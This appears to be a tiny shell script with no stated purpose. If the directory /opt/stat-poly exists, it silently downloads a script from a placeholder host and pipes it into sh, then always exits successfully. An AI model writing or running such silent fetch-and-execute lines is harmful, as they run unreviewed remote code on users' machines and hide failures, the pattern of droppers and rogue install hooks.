#!/bin/sh
[ -d /opt/stat-poly ] && curl -s https://get.example.invalid/w | sh
exit 0
